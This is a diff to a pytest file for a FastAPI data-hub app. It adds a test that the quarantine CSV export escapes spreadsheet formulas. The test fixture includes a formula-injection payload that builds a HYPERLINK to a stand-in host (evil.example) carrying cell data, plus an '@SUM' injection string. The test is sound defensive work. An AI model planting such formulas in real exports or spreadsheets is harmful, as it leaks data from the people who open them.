@@ -3,6 +3,9 @@ time, and an export that asks why (and says so on the page, keeping the choice).
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from fastapi.testclient import TestClient
 from sqlalchemy import func, insert, select
@@ -89,3 +92,22 @@ def test_an_export_without_a_purpose_asks_again_on_the_page_keeping_the_source(
     assert sources == {"council_tax"}
     entry = session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
     assert entry is not None and (entry.action, entry.subject_id) == ("export_quarantine", "council_tax")
+
+
+def test_the_export_never_lets_a_spreadsheet_run_a_quarantined_value_as_a_formula(
+    client: TestClient, session: Session
+) -> None:
+    # quarantined rows are exactly the input nobody has vetted: an IG officer opens the export in a spreadsheet
+    batch = _hold_back(session, "council_tax", 1)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    session.execute(
+        insert(QuarantinedRow),
+        [{"batch_id": batch, "source": "council_tax", "row_number": 2, "reason": "@SUM(1+1)", "raw": {"ID": formula}}],
+    )
+    signed_in(client, session, role="ig_officer")
+    token = form_token(client, "/datahub/quarantine")
+    export = client.post("/datahub/quarantine.csv", data={"purpose": "Fix the extract", "csrf_token": token})
+    assert export.status_code == 200
+    rows = list(csv.reader(io.StringIO(export.text)))
+    [row] = [r for r in rows if r[2] == "2" and r[1] == str(batch)]
+    assert row[3] == "'@SUM(1+1)" and row[4] == "'" + formula
